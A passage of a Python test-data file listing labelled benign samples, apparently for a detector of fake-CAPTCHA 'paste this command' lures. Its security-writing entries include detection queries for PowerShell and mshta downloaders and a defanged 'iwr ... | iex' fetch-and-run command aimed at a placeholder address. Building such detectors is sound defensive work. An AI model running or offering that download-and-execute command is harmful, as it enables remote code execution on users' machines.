    'event.code:1 AND process.parent.name:"explorer.exe" AND process.command_line:(*iwr* OR *irm* OR *DownloadString*) AND process.command_line:*#*',
    "Sigma rule review: the 'Suspicious ClickFix/FileFix Execution Pattern' rule matches explorer.exe children with '#' and words like captcha, robot, verification. Expect FPs from admin scripts with comments.",
    "Red team note (authorized test, ticket SEC-2211): we will send a simulated fake-CAPTCHA page to 40 users on Thursday. The payload only opens notepad.exe and logs a beacon to our internal collector.",
    "Incident timeline:\n09:14 user visits compromised WordPress site\n09:15 clipboard set to mshta command\n09:15 RunMRU entry written\n09:16 mshta.exe connects to 203.0.113.x\n09:20 EDR isolates host",
    "The ClickFix kill chain relies on the user. Group Policy can disable the Run dialog (NoRun) for kiosk users, but that breaks helpdesk workflows, so we chose PasteGuard-style warnings instead.",
    "Reading list: Proofpoint 'From Clipboard to Compromise', Microsoft 'Think before you Click(Fix)', Sekoia on ClearFake, Huntress on FileFix cache smuggling.",
    "CVE note: this is not a vulnerability. ClickFix is social engineering; patching won't fix it. User training, application control for mshta/wscript, and clipboard monitoring help.",
    'Defanged sample for the training deck: po\u200bwershell -w h -c "iwr hxxp://198.51.100[.]5/x | iex" (do not run; the address is a documentation range).',
    "ProcessCreate where ParentImage ends with explorer.exe and Image ends with mshta.exe and CommandLine contains 'http' -> severity high, auto-isolate off, page on-call.",
    'KQL for device-code phishing: SigninLogs | where AuthenticationProtocol == "deviceCode" | where AppDisplayName !in ("Microsoft Azure CLI") | project TimeGenerated, UserPrincipalName, IPAddress',
    "Tech-support scam pages use full-screen mode and a looping audio file telling you to call a number. Press Esc, close the browser with Task Manager if needed. Microsoft never shows a phone number in an error.",
    "Security bulletin (NL): Let op! Nep-CAPTCHA's vragen u om Windows + R in te drukken en een opdracht te plakken. Doe dit nooit; meld het bij de servicedesk.",
]
for i, text in enumerate(SEC):
    ok(
        "security-writing",
        UNK if i % 3 else "other",
        None if i % 2 else "https://security-blog.example.org/posts/" + str(200 + i),
        text,
    )

# ---- 14. Genuine support and IT mails with phone numbers, many languages ----

SUPPORT = [
    "Hi Anna, your laptop is ready for pickup at the IT desk (building B, 2nd floor). If you can't make it before Friday, call us on +44 20 7946 0018.",
    "Your ticket INC0048213 has been resolved: the shared mailbox permissions were added. Reply to this mail or call the service desk at 0800 123 4567 if the issue persists.",
    "Reminder: the VPN certificate renewal is scheduled for Saturday 02:00-04:00. During this window remote access is unavailable. Helpdesk: +1 415 555 0100 (24/7).",
    "Hallo Herr Wagner, Ihr neues Smartphone ist eingetroffen. Bitte holen Sie es bis Mittwoch in Raum 1.14 ab. R\u00fcckfragen gern unter 089 1234 5670.",
    "Bonjour Mme Lef\u00e8vre, votre demande d'acc\u00e8s au dossier Comptabilit\u00e9 a \u00e9t\u00e9 valid\u00e9e par votre responsable. Pour toute question : support informatique au 01 44 55 66 77.",
    "Hola Javier, hemos reiniciado tu contrase\u00f1a de la intranet. La nueva contrase\u00f1a temporal te llegar\u00e1 por SMS. Si no la recibes, llama a soporte al 91 123 45 67.",
    "Ciao Marco, la stampante del terzo piano \u00e8 di nuovo in funzione. Se noti altri problemi chiama l'help desk interno al 02 1234 5678 (interno 402).",
    "Ol\u00e1 Beatriz, o seu pedido de f\u00e9rias foi aprovado. Em caso de d\u00favida contacte os Recursos Humanos pelo 21 123 4567.",
    "Beste Pieter, je nieuwe werkplek is klaar. De servicedesk is bereikbaar via 030 123 4567 of servicedesk@bedrijf.example.",
    "Dzie\u0144 dobry, pa\u0144stwa zg\u0142oszenie nr 88213 zosta\u0142o zamkni\u0119te. W razie pyta\u0144 prosimy o kontakt z dzia\u0142em IT: 22 123 45 67.",
    "Merhaba Ay\u015fe Han\u0131m, yeni diz\u00fcst\u00fc bilgisayar\u0131n\u0131z haz\u0131r. Teslim almak i\u00e7in BT destek ekibini 0212 123 45 67 numaradan arayabilirsiniz.",
    "\u0417\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435, \u0418\u0432\u0430\u043d! \u0412\u0430\u0448\u0430 \u0437\u0430\u044f\u0432\u043a\u0430 \u043d\u0430 \u0434\u043e\u0441\u0442\u0443\u043f \u043a 1\u0421 \u043e\u0434\u043e\u0431\u0440\u0435\u043d\u0430. \u0412\u043e\u043f\u0440\u043e\u0441\u044b \u2014 \u043f\u043e \u0442\u0435\u043b\u0435\u0444\u043e\u043d\u0443 \u0441\u043b\u0443\u0436\u0431\u044b \u043f\u043e\u0434\u0434\u0435\u0440\u0436\u043a\u0438 +7 495 123-45-67, \u0434\u043e\u0431. 210.",
    "\u7530\u4e2d\u69d8\n\u3054\u4f9d\u983c\u306e\u30a2\u30ab\u30a6\u30f3\u30c8\u4f5c\u6210\u304c\u5b8c\u4e86\u3057\u307e\u3057\u305f\u3002\u3054\u4e0d\u660e\u70b9\u306f\u60c5\u5831\u30b7\u30b9\u30c6\u30e0\u90e8\uff0803-1234-5678\uff09\u307e\u3067\u304a\u554f\u3044\u5408\u308f\u305b\u304f\u3060\u3055\u3044\u3002",
    "\u738b\u5148\u751f\u60a8\u597d\uff0c\u60a8\u7684\u7535\u8111\u7ef4\u4fee\u5df2\u5b8c\u6210\uff0c\u8bf7\u5230\u4e09\u697c IT \u670d\u52a1\u53f0\u9886\u53d6\u3002\u5982\u6709\u95ee\u9898\u8bf7\u81f4\u7535 010-1234 5678\u3002",
    "\u0645\u0631\u062d\u0628\u0627\u064b \u0623\u062d\u0645\u062f\u060c \u062a\u0645 \u062a\u0641\u0639\u064a\u0644 \u062d\u0633\u0627\u0628 \u0627\u0644\u0628\u0631\u064a\u062f \u0627\u0644\u062c\u062f\u064a\u062f. \u0644\u0644\u0627\u0633\u062a\u0641\u0633\u0627\u0631 \u064a\u0631\u062c\u0649 \u0627\u0644\u0627\u062a\u0635\u0627\u0644 \u0628\u0642\u0633\u0645 \u062a\u0642\u0646\u064a\u0629 \u0627\u0644\u0645\u0639\u0644\u0648\u0645\u0627\u062a \u0639\u0644\u0649 4 123 4567 971+.",
    "\uae40\ubbfc\uc218\ub2d8, \uc694\uccad\ud558\uc2e0 \ubaa8\ub2c8\ud130\uac00 \ub3c4\ucc29\ud588\uc2b5\ub2c8\ub2e4. IT \uc9c0\uc6d0\ud300(02-1234-5678)\uc73c\ub85c \uc5f0\ub77d \uc8fc\uc2dc\uba74 \uc124\uce58 \uc77c\uc815\uc744 \uc7a1\uc544 \ub4dc\ub9ac\uaca0\uc2b5\ub2c8\ub2e4.",
    "Hej Erik, ditt l\u00f6senord g\u00e5r ut om 5 dagar. Byt det via Ctrl+Alt+Del \u2192 Byt l\u00f6senord. Fr\u00e5gor? Ring IT-support p\u00e5 08-123 456 78.",
    "Dobr\u00fd den, va\u0161e \u017e\u00e1dost o nov\u00fd notebook byla schv\u00e1lena. Kontakt na IT podporu: +420 222 123 456.",
    "Your Dell service request 1234567890 is scheduled: a technician will visit on 9 Dec between 10:00 and 12:00. To reschedule call Dell Support at 1-800-624-9897.",
    "Apple Support: your repair (R123456789) is complete and ready for pickup at Apple Regent Street. Questions? Call 0800 048 0408.",
    "Thanks for contacting Acme Bank. As discussed on the phone, your new card will arrive in 5-7 business days. We will never ask for your PIN. Customer service: 0345 600 0000.",
    "Hi team, the fire alarm test is on Wednesday at 11:00. No need to evacuate. Facilities: ext. 2200 or +44 161 496 0000.",
    "Guten Tag, Ihr Termin beim Kundenservice ist am 12.12. um 14:30 best\u00e4tigt. Bei Verhinderung bitte unter 030 901820 absagen.",
    "Estimado cliente, su pedido n.\u00ba 44821 ha sido enviado. Puede seguirlo en la web de la empresa de transporte o llamarnos al 902 123 456 de lunes a viernes.",
    "Bonjour, votre rendez-vous chez le dentiste est confirm\u00e9 pour le 15/12 \u00e0 9h. En cas d'emp\u00eachement, merci d'appeler le cabinet au 04 72 00 00 00.",
    "Hi! Our office phone system moves to Teams Phone tonight. Your new direct number is +1 206 555 0147; voicemail moves automatically. Questions: #it-help on Slack.",
    "Gentile cliente, la sua richiesta di rimborso \u00e8 stata accettata. L'importo sar\u00e0 accreditato entro 10 giorni lavorativi. Servizio clienti: 06 1234 5678.",
    "Caro cliente, a sua encomenda foi entregue. Se tiver algum problema com o produto, ligue para a nossa linha de apoio 800 200 300.",
    "Uw pakket is vandaag bezorgd bij de buren (nr. 14). Vragen? Bel de klantenservice: 088 123 4567.",
    "Your flight BA 0982 on 20 Dec has a new departure time: 14:35. Manage your booking online or call +44 344 493 0787.",
]
for i, text in enumerate(SUPPORT):
    ok(
        "support-mail",
        UNK,
        None if i % 2 else "https://outlook.office.com/mail/inbox/id/" + str(3000 + i),
        text,
    )

# ---- 15. OAuth and device-login documentation ----

OAUTH = [
    "After the user consents, the authorization server redirects to your redirect_uri with a code, e.g. http://localhost:8080/callback?code=AUTH_CODE&state=STATE. Exchange it at the token endpoint; never ask users to copy it.",
    "az login --use-device-code\n# To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code shown in your terminal.",
    "gh auth login\n? What account do you want to log into? GitHub.com\n! First copy your one-time code: 1A2B-3C4D\nPress Enter to open github.com in your browser...",
    "The device authorization grant (RFC 8628) lets input-constrained devices obtain tokens: the device shows a user_code and verification_uri; the user enters the code on another device.",
    'redirect_uris: ["http://127.0.0.1:8765/oauth2/callback", "https://app.example.com/oauth2/callback"]',
    "For native apps, RFC 8252 recommends loopback redirects (http://127.0.0.1:{port}/) with PKCE. The app listens on the port and reads the code itself.",
    "curl -X POST https://oauth2.googleapis.com/token -d code=$CODE -d client_id=$CLIENT_ID -d client_secret=$CLIENT_SECRET -d redirect_uri=http://localhost:8080 -d grant_type=authorization_code",
    'MSAL: PublicClientApplication.acquire_token_interactive(scopes=["User.Read"]) opens the system browser and listens on http://localhost for the redirect.',
    "Tip from the AWS docs: `aws sso login` opens your browser; if it can't, it prints a URL and a code to enter at the device authorization page.",
    "OAuth state parameter: generate a random value, store it in the session, and compare it when the redirect comes back with ?code=...&state=... to prevent CSRF.",
    "gcloud auth login --no-launch-browser\nGo to the following link in your browser, and complete the sign-in prompts. Once finished, enter the verification code provided in your browser.",
    "Spotify Web API quick start: set the Redirect URI in your dashboard to http://127.0.0.1:3000/callback, then run `npm start` and open http://127.0.0.1:3000/login.",
]
for i, text in enumerate(OAUTH):
    ok(
        "oauth-docs",
        UNK if i % 2 else TERM,
        [
            "https://datatracker.ietf.org/doc/html/rfc8628",
            "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli",
            "https://cli.github.com/manual/gh_auth_login",
            "https://developers.google.com/identity/protocols/oauth2/native-app",
        ][i % 4],
        text,
    )

# ---- 16. Chat messages ----

CHAT = [
    "can you review my PR when you have a minute? it's the invoice export one",
    "lunch at 12:30? the thai place",
    "deploy is done, smoke tests green \u2705",
    "I'm out tomorrow, Jonas covers on-call",
    "who owns the grafana alerts for payments?",
    "pls don't merge to main until the release is cut",
    "heads up: staging DB will be restored from last night's snapshot at 15:00",
    "the build is failing on `test_rounding`, looking into it",
    "meeting moved to 3pm, same link",
    "Happy birthday Lena!! \U0001f382\U0001f389",
    "does anyone know the wifi password for the guest network? it's not on the wiki",
    "thanks for the quick fix \U0001f64f",
    "ok I ran `kubectl rollout restart deploy/api -n payments`, pods are coming back",
    "reminder: timesheets due Friday",
    "I think the flaky test is a timezone thing, CI runs in UTC",
    "anyone else getting 502s on the intranet?",
    "Kannst du mir kurz die Folien von gestern schicken?",
    "On se retrouve \u00e0 14h en salle Jupiter ?",
    "\u00bfAlguien tiene el enlace a la grabaci\u00f3n de la reuni\u00f3n?",
    "Ho aggiornato il documento, dai un'occhiata quando puoi",
    "\u4eca\u65e5\u306e\u4f1a\u8b70\u306e\u8b70\u4e8b\u9332\u3092\u5171\u6709\u3057\u307e\u3059",
    "\u660e\u5929\u7684\u53d1\u5e03\u63a8\u8fdf\u5230\u4e0b\u5348\u4e09\u70b9",
    "sure, I'll send the invite",
    "+1 to rolling back",
    "the customer called again about order 44821, can someone from billing call them back on +31 20 123 4567?",
    "new laptop arrived, setting it up now. what's the command for the company VPN profile again? found it on the wiki nvm",
    "FYI the security team says the 'press Win+R' popup on that recipe site is a scam, don't paste anything",
    "brb coffee",
    "quick q: do we support Safari 16 still?",
    "merged \U0001f680",
    "I'll be 10 min late, train delay",
    "can we move the retro to Thursday?",
    "Standup: yesterday fixed the CSV encoding bug, today pairing with Sam on the webhook retries, no blockers",
    "I pasted the wrong link, this one: https://docs.example.com/runbooks/payments",
    "great demo today everyone \U0001f44f",
    "who has the key to the server room?",
    "PSA: rotate your GitHub tokens, the old ones expire at the end of the month",
    "is the 'Hoefler Text' font licensed for the new brochure or should we use Georgia?",
    "LGTM",
    "Trinkt jemand noch Kaffee mit? \u2615",
]
for i, text in enumerate(CHAT):
    ok("chat", UNK, None if i % 3 else "https://app.slack.com/client/T0123/C0456", text)

# ---- 17. Logs ----

LOGS = [
    "2026-12-07T21:14:03.512Z ERROR [orders] Failed to publish event OrderCreated id=44821: timeout after 5000ms",
    "Dec  7 21:15:01 web01 CRON[23145]: (root) CMD (/usr/local/bin/backup.sh >> /var/log/backup.log 2>&1)",
    '192.0.2.44 - - [07/Dec/2026:21:16:22 +0000] "GET /api/v1/items?page=2 HTTP/1.1" 200 5312 "-" "Mozilla/5.0"',
    "Traceback (most recent call last):\n  File \"app.py\", line 42, in <module>\n    main()\n  File \"app.py\", line 37, in main\n    total = sum(x.amount for x in items)\nAttributeError: 'NoneType' object has no attribute 'amount'",
    'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.orders.Validator.check(Validator.java:58)',
    "Error: listen EADDRINUSE: address already in use :::3000",
    "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree",
    "fatal: unable to access 'https://github.com/acme/orders.git/': Could not resolve host: github.com",
    "kernel: [12345.678] Out of memory: Killed process 4321 (java) total-vm:8123456kB",
    "Warning: Permanently added 'web01,10.0.1.11' (ED25519) to the list of known hosts.",
    "Event ID 4740: A user account was locked out. Account Name: jdoe. Caller Computer Name: WS-204",
    "Event 7036: The Windows Update service entered the stopped state.",
    "E1207 21:20:44.123456       1 reflector.go:138] failed to list *v1.Pod: the server could not find the requested resource",
    "WARN  [hikari] HikariPool-1 - Connection is not available, request timed out after 30000ms.",
    "Step 5/9 : RUN pip install -r requirements.txt\n ---> Running in 4c1d2e3f4a5b\nCollecting flask==3.0.3",
    "PS C:\\> Get-Service Spooler\n\nStatus   Name               DisplayName\n------   ----               -----------\nRunning  Spooler            Print Spooler",
    "[2026-12-07 21:22:10] production.ERROR: SQLSTATE[40001]: Serialization failure: 1213 Deadlock found when trying to get lock",
    'level=info ts=2026-12-07T21:23:00Z caller=main.go:88 msg="Server is ready to receive web requests."',
    "Dec 07 21:24:31 laptop sshd[991]: Failed password for invalid user admin from 198.51.100.77 port 53122 ssh2",
    "curl: (60) SSL certificate problem: unable to get local issuer certificate",
    "ModuleNotFoundError: No module named 'pandas'",
    "error[E0382]: borrow of moved value: `config`\n  --> src/main.rs:14:20",
    "Windows Defender Antivirus has detected malware or other potentially unwanted software. Name: Trojan:Win32/Wacatac.B!ml Path: file:_C:\\Users\\anna\\Downloads\\crack.exe Action: Quarantine",
    "2026/12/07 21:26:00 [error] 1234#0: *5678 connect() failed (111: Connection refused) while connecting to upstream",
    "AADSTS50076: Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication.",
]
for i, text in enumerate(LOGS):
    ok("log", UNK if i % 2 else TERM, None, text)

# ---- 18. Code ----

CODE = [
    "def slugify(s: str) -> str:\n    return re.sub(r'[^a-z0-9]+', '-', s.lower()).strip('-')",
    "import requests\nr = requests.get('https://api.github.com/repos/psf/requests')\nprint(r.json()['stargazers_count'])",
    "async function getUser(id) {\n  const res = await fetch(`/api/users/${id}`);\n  if (!res.ok) throw new Error(res.statusText);\n  return res.json();\n}",
    "const debounce = (fn, ms) => { let t; return (...a) => { clearTimeout(t); t = setTimeout(() => fn(...a), ms); }; };",
    "SELECT 1;",
    'func main() {\n\thttp.HandleFunc("/health", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) })\n\tlog.Fatal(http.ListenAndServe(":8080", nil))\n}',
    'fn main() {\n    let v: Vec<i32> = (1..=10).filter(|x| x % 2 == 0).collect();\n    println!("{:?}", v);\n}',
    "public static String reverse(String s) { return new StringBuilder(s).reverse().toString(); }",
    '$files = Get-ChildItem -Filter *.csv\nforeach ($f in $files) {\n    $rows = Import-Csv $f.FullName\n    Write-Host "$($f.Name): $($rows.Count) rows"\n}',
    "#!/usr/bin/env bash\nset -euo pipefail\nfor host in web01 web02; do\n  ssh \"$host\" 'sudo systemctl reload nginx'\ndone",
    "with open('data.json') as f:\n    data = json.load(f)\nprint(len(data['items']))",
    "const b64 = btoa(JSON.stringify({user: 'anna', exp: Date.now() + 3600e3}));",
    "import base64\nprint(base64.b64decode('aGVsbG8=').decode())",
    "class LRU(OrderedDict):\n    def __init__(self, n):\n        super().__init__(); self.n = n\n    def __setitem__(self, k, v):\n        super().__setitem__(k, v); self.move_to_end(k)\n        if len(self) > self.n: self.popitem(last=False)",
    "<button onclick=\"navigator.clipboard.writeText(document.getElementById('code').innerText)\">Copy</button>",
    'Sub Hello()\n    MsgBox "Hello from VBA"\nEnd Sub',
    '=IFERROR(VLOOKUP(A2, Prices!A:B, 2, FALSE), "n/a")',
    '=XLOOKUP(E2, Orders[ID], Orders[Total], "missing")',
    "@app.route('/webhook', methods=['POST'])\ndef webhook():\n    payload = request.get_json(force=True)\n    queue.put(payload)\n    return '', 204",
    "const el = document.createElement('div');\nel.textContent = 'Saved';\ndocument.body.appendChild(el);",
    "try {\n  JSON.parse(text);\n} catch (e) {\n  console.error('bad json', e);\n}",
    "subprocess.run(['git', 'rev-parse', 'HEAD'], check=True, capture_output=True, text=True).stdout.strip()",
    'String.format("%s-%04d", prefix, counter)',
    "'{0} is {1} years old' -f $name, $age",
    "$bytes = [System.Text.Encoding]::UTF8.GetBytes('hello'); [Convert]::ToBase64String($bytes)",
    "import { z } from 'zod';\nconst User = z.object({ name: z.string(), age: z.number().int() });",
    "export default defineConfig({ plugins: [react()], server: { port: 5173 } })",
    "interface Order { id: string; total: number; items: Item[] }",
    "x = [c for c in 'hello world' if c not in 'aeiou']",
    "let arr = [5, 3, 8]; arr.sort((a, b) => a - b); console.log(arr);",
    "docker_client.containers.run('alpine', 'echo hi', remove=True)",
    "eval_metrics = model.evaluate(X_test, y_test, verbose=0)",
    "char *s = malloc(len + 1);\nif (!s) return NULL;\nmemcpy(s, src, len);\ns[len] = '\\0';",
    "SELECT * FROM users WHERE id = ?;  -- parameterized, never string-concat",
    "Regex for ISO dates: ^\\d{4}-\\d{2}-\\d{2}$",
]
for i, text in enumerate(CODE):
    ok(
        "code",
        ["other", UNK][i % 2],
        None if i % 3 else "https://stackoverflow.com/questions/" + str(70000000 + i),
        text,
    )

# ---- 19. Office texts ----

OFFICE = [
    "Dear all, please find attached the Q4 budget draft. Comments by Friday please.",
    "Meeting notes 7 Dec:\n- launch moved to 15 Jan\n- Anna owns the pricing page\n- next sync Tuesday",
    "Sehr geehrte Damen und Herren, anbei erhalten Sie die Rechnung Nr. 2026-1187. Mit freundlichen Gr\u00fc\u00dfen",
    "Invoice 2026-1187\nAmount due: \u20ac 1,240.00\nDue date: 31 Dec 2026\nIBAN: DE89 3704 0044 0532 0130 00",
    "Agenda\n1. Welcome\n2. Roadmap review\n3. Hiring\n4. AOB",
    "Out of office: I'm away until 5 January with limited access to email. For urgent matters contact Jonas (jonas@example.com).",
    "Kind regards,\nAnna Berg\nHead of Finance | Example GmbH\nT +49 30 123456-0",
    "Please sign the attached NDA and return it by email.",
    "Shipping address: Musterstra\u00dfe 12, 10115 Berlin, Germany",
    "Project Phoenix \u2013 status: green. Risks: vendor delay on API v2 (medium).",
    "The quarterly all-hands will take place on 18 December at 16:00 CET in the atrium and on Teams.",
    "Reminder: submit your expense reports in Concur by the 5th of each month.",
    "Password policy reminder: at least 14 characters, no reuse of the last 10 passwords. IT will never ask for your password by phone or email.",
    "Compte rendu de la r\u00e9union du 7 d\u00e9cembre : validation du budget, lancement pr\u00e9vu le 15 janvier.",
    "Gracias por su pedido. Adjuntamos la factura en PDF.",
    'Onboarding checklist: badge, laptop, Slack, Jira, payroll form, security training ("Spot the fake CAPTCHA" module).',
    "Table of contents\n1 Introduction\n2 Scope\n3 Requirements\n4 Timeline",
    "Thank you for your application. We will get back to you within two weeks.",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua.",
    "Bitte bis Freitag die Urlaubsplanung f\u00fcr Q1 im Kalender eintragen.",
    "PO #45001923 approved. Vendor: Office Supplies Ltd. Total: \u00a3312.40",
    'Customer feedback: "The new checkout is much faster, but I couldn\'t find the coupon field."',
    "Press release draft: Example GmbH opens new office in Lisbon",
    "Reminder: The office will be closed on 24-26 December.",
    "Wi-Fi for visitors: network 'Example-Guest', password is on the reception desk card.",
    "Please print double-sided to save paper \U0001f331",
    "Zoom link for tomorrow: https://zoom.us/j/91234567890 (passcode in the calendar invite)",
    "Dear Mr. Smith, I hope this email finds you well. Following our call, I'm sending the signed contract.",
    "Q3 revenue: 4.2 M EUR (+12 % YoY); EBIT margin 9.1 %.",
    "Checklist for leaving: return laptop, badge and keys; forward your mailbox; hand over open tickets.",
]
for i, text in enumerate(OFFICE):
    ok("office", UNK, None if i % 2 else "https://outlook.office.com/mail/", text)

# ---- 20. Benign texts close to lures ----

CLOSE = [
    (RUN, None, "powershell"),
    (RUN, None, "mshta"),
    (
        TERM,
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
        "certutil -hashfile .\\setup.msi SHA256",
    ),
    (
        TERM,
        "https://learn.microsoft.com/en-us/windows/win32/msi/command-line-options",
        "msiexec /i C:\\Installers\\7z2408-x64.msi /qn /norestart",
    ),
    (TERM, None, "Get-Content $env:WINDIR\\Logs\\CBS\\CBS.log -Tail 40"),
    (
        TERM,
        None,
        "Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'",
    ),
    (
        TERM,
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-restmethod",
        'Invoke-RestMethod -Uri https://api.example.com/v1/status -Headers @{Authorization = "Bearer $token"}',
    ),
    (TERM, None, "[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('Get-Date'))"),
    (TERM, None, "nslookup -type=txt _dmarc.example.com"),
    (TERM, None, "Resolve-DnsName -Type TXT example.com"),
    (TERM, None, "echo 'aGVsbG8K' | base64 -d"),
    (TERM, None, "xattr -l ~/Downloads/Firefox.dmg"),
    (
        TERM,
        "https://support.apple.com/guide/terminal/welcome/mac",
        'osascript -e \'display notification "Build finished" with title "Xcode"\'',
    ),
    (
        TERM,
        None,
        "curl -fsSL https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name",
    ),
    (TERM, None, "curl -o install.sh https://sh.rustup.rs && less install.sh"),
    (CON, None, "navigator.clipboard.readText().then(t => console.log(t.length))"),
    (CON, None, "atob('eyJhbGciOiJIUzI1NiJ9')"),
    (UNK, None, "I am not a robot \u2705"),
    (
        UNK,
        "https://www.google.com/recaptcha/about/",
        "reCAPTCHA v3 returns a score for each request without user friction.",
    ),
    (
        UNK,
        None,
        "Win+R \u2192 type 'services.msc' \u2192 Enter \u2192 find 'Print Spooler' \u2192 Restart",
    ),
    (UNK, None, "To open the Run box press Windows key + R, then type notepad and press Enter."),
    (
        UNK,
        None,
        "Your verification code is 482913. It expires in 10 minutes. Don't share it with anyone.",
    ),
    (
        UNK,
        None,
        "Microsoft will never show a phone number in an error message or ask you to call. If you see one, it's a scam.",
    ),
    (
        UNK,
        None,
        "Your order #113-4412 has shipped. Questions about your order? Visit Your Orders on the website; we never ask you to call a number to cancel.",
    ),
    (TERM, None, "finger @localhost"),
    (TERM, None, "ssh -o ProxyCommand='nc -X 5 -x proxy.corp:1080 %h %p' git@github.com"),
    (TERM, None, "python3 -c 'import sys; print(sys.version)'"),
    (TERM, None, 'node -e "console.log(process.versions)"'),
    (TERM, None, 'deno eval "console.log(Deno.version)"'),
]
for target, src, text in CLOSE:
    ok("close-to-lure", target, src, text)


# ---- 21. More everyday texts, each with its own names (people paste their own specifics) ----

PEOPLE = ["m.kowalczyk", "s.oyelaran", "t.haugland", "r.venkataraman", "l.moreau", "k.tanabe"]
HOSTS_INT = ["fin-app-03", "hr-sql-01", "build-win-07", "dc-ber-02", "print-lis-01", "vdi-host-12"]
for i, (u, h) in enumerate(zip(PEOPLE, HOSTS_INT, strict=True)):
    ok(
        "admin-powershell",
        TERM,
        None,
        f"Get-ADUser -Identity {u} -Properties LockedOut, PasswordLastSet, LastBadPasswordAttempt | Format-List",
    )
    ok(
        "admin-powershell",
        TERM,
        None,
        f"Invoke-Command -ComputerName {h} -ScriptBlock {{ Get-CimInstance Win32_QuickFixEngineering | Sort-Object InstalledOn -Descending | Select-Object -First 3 }}",
    )
    ok("admin-cmd", TERM, None, f"query user /server:{h}")
    ok("shell", TERM, None, f"ssh {u.replace('.', '')}@{h}.corp.internal 'df -h /data && uptime'")
    ok(
        "devops",
        TERM,
        None,
        f"kubectl -n team-{h.split('-')[0]} get deploy,svc,ing -l owner={u.split('.')[1]}",
    )
    ok(
        "sql",
        UNK,
        None,
        f"SELECT ticket_id, opened_at, status FROM helpdesk.tickets WHERE assignee = '{u}' AND status <> 'closed' ORDER BY opened_at;",
    )
    ok(
        "chat",
        UNK,
        None,
        f"@{u} can you check why {h} dropped off monitoring around 03:10? no alerts fired but the dashboard is grey",
    )
    ok(
        "log",
        UNK,
        None,
        f"2026-12-0{i + 1}T0{i}:1{i}:2{i}Z WARN  agent[{1200 + i}] host={h} heartbeat missed 3 times, last_seen={60 * (i + 2)}s ago",
    )

TICKETS = [
    ("INC0051102", "Outlook keeps asking for the password after the MFA change"),
    ("INC0051187", "Teams camera black screen on the docking station"),
    ("RITM0023310", "request: access to the SAP BW reporting role"),
    ("INC0051240", "printer on 4th floor prints blank pages"),
    ("INC0051301", "OneDrive sync stuck at 'processing changes'"),
    ("CHG0009921", "patch window for the SQL cluster moved to Sunday 22:00"),
]
for num, title in TICKETS:
    ok(
        "support-mail",
        UNK,
        "https://servicenow.example.com/nav_to.do?uri=incident.do",
        f"[{num}] {title}\nStatus: In progress\nAssigned group: Service Desk L2\nYou can reply to this e-mail to add a comment.",
    )

MAILS2 = [
    "Hi Priya, the conference room display in Oslo is fixed; the HDMI switch was replaced. If it acts up again, ring facilities on +47 22 00 00 00.",
    "Liebe Kolleginnen und Kollegen, ab Montag gilt die neue Besucherregelung: Anmeldung bitte \u00fcber den Empfang (Durchwahl -100).",
    "Chers coll\u00e8gues, le serveur de fichiers sera migr\u00e9 ce week-end. Les lecteurs r\u00e9seau changeront de lettre : P: devient Q:.",
    "Buongiorno, confermiamo la consegna del nuovo mobilio per marted\u00ec mattina. Per info: ufficio acquisti, 011 123 4567.",
    "Prezado cliente, sua fatura de dezembro j\u00e1 est\u00e1 dispon\u00edvel no portal. D\u00favidas: 4004-0000 (capitais).",
    "Hola equipo, recordad que el viernes hay simulacro de evacuaci\u00f3n a las 11:30. Punto de encuentro: aparcamiento norte.",
    "Geachte heer De Vries, uw afspraak bij de gemeente is bevestigd op 14 december om 10:15, balie 3.",
    "Szanowni Pa\u0144stwo, informujemy o planowanej przerwie w dostawie pr\u0105du w budynku C w sobot\u0119 w godz. 8-12.",
    "Say\u0131n m\u00fc\u015fterimiz, kargonuz da\u011f\u0131t\u0131ma \u00e7\u0131km\u0131\u015ft\u0131r. Takip numaras\u0131: 7281 4410 2231.",
    "\u0423\u0432\u0430\u0436\u0430\u0435\u043c\u044b\u0435 \u043a\u043e\u043b\u043b\u0435\u0433\u0438, \u0432 \u043f\u044f\u0442\u043d\u0438\u0446\u0443 \u0441 18:00 \u0431\u0443\u0434\u0435\u0442 \u043e\u0431\u043d\u043e\u0432\u043b\u0435\u043d\u0438\u0435 \u043f\u043e\u0447\u0442\u043e\u0432\u043e\u0433\u043e \u0441\u0435\u0440\u0432\u0435\u0440\u0430, \u0432\u043e\u0437\u043c\u043e\u0436\u043d\u044b \u043a\u0440\u0430\u0442\u043a\u043e\u0432\u0440\u0435\u043c\u0435\u043d\u043d\u044b\u0435 \u043f\u0435\u0440\u0435\u0431\u043e\u0438.",
    "\u304a\u75b2\u308c\u69d8\u3067\u3059\u3002\u6765\u9031\u6708\u66dc\u65e5\u304b\u3089\u65b0\u3057\u3044\u52e4\u6020\u30b7\u30b9\u30c6\u30e0\u306b\u5207\u308a\u66ff\u308f\u308a\u307e\u3059\u3002\u64cd\u4f5c\u8aac\u660e\u4f1a\u306f\u6728\u66dc\u65e515\u6642\u304b\u3089\u3067\u3059\u3002",
    "\u5404\u4f4d\u540c\u4e8b\uff0c\u672c\u5468\u4e94\u4e0b\u5348\u516c\u53f8\u7f51\u7edc\u5c06\u8fdb\u884c\u7ef4\u62a4\uff0c\u8bf7\u63d0\u524d\u4fdd\u5b58\u597d\u6587\u4ef6\u3002",
    "\u0627\u0644\u0632\u0645\u0644\u0627\u0621 \u0627\u0644\u0643\u0631\u0627\u0645\u060c \u0633\u064a\u062a\u0645 \u062a\u062d\u062f\u064a\u062b \u0646\u0638\u0627\u0645 \u0627\u0644\u0628\u0631\u064a\u062f \u064a\u0648\u0645 \u0627\u0644\u062e\u0645\u064a\u0633 \u0645\u0633\u0627\u0621\u064b. \u0634\u0643\u0631\u0627\u064b \u0644\u062a\u0641\u0647\u0645\u0643\u0645.",
